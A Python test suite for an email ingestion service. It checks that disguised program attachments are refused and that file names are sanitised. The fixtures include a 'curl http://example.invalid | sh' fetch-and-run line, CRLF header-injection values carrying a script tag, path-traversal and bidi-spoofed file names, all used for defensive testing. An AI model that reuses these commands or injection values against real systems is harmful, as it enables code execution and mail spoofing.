"""Attachments judged by their safe name and their content: every trick that hides a program is refused, and the
name kept on the message is the one a reader can trust."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from urllib.parse import quote

import pytest

from ingest_email.normalize import Normalized, normalize
from ingest_email.rebuild import File, rebuild
from shared.attachments import REFUSED_PROGRAM, REFUSED_TYPE

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"


def mail_with(filename: str, content: bytes = PDF, content_type: str = "application/pdf") -> Normalized:
    """A mail with one attachment, its name sent RFC 2231-encoded (so any character can be in it)."""
    encoded = quote(filename.encode("utf-8"), safe="")
    raw = (
        "From: An <an@khach.vn>\r\nTo: care@example.com\r\nSubject: Invoice\r\nMessage-ID: <m1@khach.vn>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\nSee the attachment.\r\n"
        f"--b\r\nContent-Type: {content_type}\r\nContent-Disposition: attachment; filename*=utf-8''{encoded}\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(content).decode()}\r\n--b--\r\n"
    ).encode()
    return normalize(raw, provider="smtp", received_at=datetime.now(UTC), our_domains={"example.com"})


def refused_of(normalized: Normalized) -> tuple[str | None, str]:
    assert normalized.data.attachments == () and normalized.blobs == ()
    [refused] = normalized.data.metadata["attachments_refused"]
    return refused["filename"], refused["reason"]


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("invoice.exe\x00", "invoice.exe"),
        ("invoice.exe\x00.pdf", "invoice.exe"),  # what a C API (and so the file system) would create
        ("evil.exe.", "evil.exe"),
        ("evil.exe. . .  ", "evil.exe"),
        ("evil.exe\u3000", "evil.exe"),
        ("a.exe::$DATA", "a.exe"),
        ("a.exe:hidden:$DATA", "a.exe"),
        ("evil.exe\u202e", "evil.exe"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown by a bidi-aware reader as "invoiceexe.pdf"
        ("ev\u200bil.e\u200dxe", "evil.exe"),
        ("EVIL.ExE", "EVIL.ExE"),
        ("report.pdf.exe", "report.pdf.exe"),
        ("setup.PS1", "setup.PS1"),
        ("run.hta", "run.hta"),
        ("x" * 400 + ".exe", "x" * 251 + ".exe"),  # too long: cut in the middle, never through the extension
    ],
)
def test_a_program_is_refused_however_its_name_is_dressed_up(sent: str, shown: str) -> None:
    assert refused_of(mail_with(sent)) == (shown, REFUSED_TYPE)


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120),  # Windows PE/DOS
        b"\x7fELF\x02\x01\x01" + bytes(60),  # Linux
        b"\xcf\xfa\xed\xfe" + bytes(60),  # macOS Mach-O 64-bit
        b"\xca\xfe\xba\xbe" + bytes(60),  # macOS universal binary (or a Java class)
        b"#!/bin/sh\ncurl http://example.invalid | sh\n",
        b"\xef\xbb\xbf#!/usr/bin/env python3\n",
        b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68),  # Windows shortcut
    ],
)
def test_a_program_is_refused_by_its_content_whatever_name_and_type_it_claims(content: bytes) -> None:
    assert refused_of(mail_with("holiday photo.jpg", content, "image/jpeg")) == ("holiday photo.jpg", REFUSED_PROGRAM)


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("hóa đơn.pdf", "hóa đơn.pdf"),
        ("..\\..\\windows/system32.pdf", ".._.._windows_system32.pdf"),
        ("bi\u202el.pdf", "bil.pdf"),
        ("10:30 meeting.pdf", "10_30 meeting.pdf"),
        ("..", None),
        (". . .", None),
        ("\u202e\u200b", None),
    ],
)
def test_an_accepted_file_keeps_only_its_safe_name(sent: str, kept: str | None) -> None:
    normalized = mail_with(sent)
    [attachment] = normalized.data.attachments
    assert attachment.filename == kept
    assert "attachments_refused" not in normalized.data.metadata


def test_a_document_is_not_taken_for_a_program() -> None:
    for name, content, kind in [
        ("scan.pdf", PDF, "application/pdf"),
        ("notes.txt", b"Mz. Lan called about order 12.\n", "text/plain"),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(40), "image/png"),
    ]:
        [attachment] = mail_with(name, content, kind).data.attachments
        assert attachment.filename == name


def test_an_html_mail_shows_its_inline_image_and_blocks_the_tracking_pixel_with_a_note() -> None:
    photo = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
    raw = (
        "From: An <an@khach.vn>\r\nTo: care@example.com\r\nSubject: Photo\r\nMessage-ID: <m2@khach.vn>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
        '--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p class="x">The box:</p><img src="cid:p1@khach.vn">'
        '<img src="https://t.example/open.gif?u=42" width="1" height="1">\r\n'
        "--r\r\nContent-Type: image/png\r\nContent-ID: <p1@khach.vn>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{photo}\r\n--r--\r\n"
    ).encode()
    data = normalize(raw, provider="smtp", received_at=datetime.now(UTC), our_domains={"example.com"}).data
    assert data.html is not None
    assert 'src="cid:p1@khach.vn"' in data.html and "t.example" not in data.html and "class" not in data.html
    assert data.metadata["remote_images_blocked"] == 1
    [inline] = data.attachments
    assert inline.content_id == "p1@khach.vn"


def test_a_provider_s_file_name_type_or_content_id_cannot_write_headers_into_the_rebuilt_mail() -> None:
    raw = rebuild(
        [("From", "an@khach.vn"), ("To", "care@example.com"), ("Message-ID", "<m3@khach.vn>")],
        text="See the attachment.",
        html=None,
        files=[
            File(
                filename="scan\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.pdf",
                content_type="application/pdf\r\nContent-ID: <forged@khach.vn>",
                content=PDF,
                content_id=None,
            ),
            File(filename="evil.exe\x00", content_type="application/pdf", content=PDF, content_id="<a\r\nX: 1>"),
        ],
    )
    normalized = normalize(raw, provider="postmark", received_at=datetime.now(UTC), our_domains={"example.com"})
    [scan] = normalized.data.attachments
    assert (scan.filename, scan.content_type, scan.content_id) == (
        "scanContent-Type_ text_html<script>alert(1)<_script>.pdf",
        "application/octet-stream",
        None,
    )
    [refused] = normalized.data.metadata["attachments_refused"]
    assert (refused["filename"], refused["reason"]) == ("evil.exe", REFUSED_TYPE)
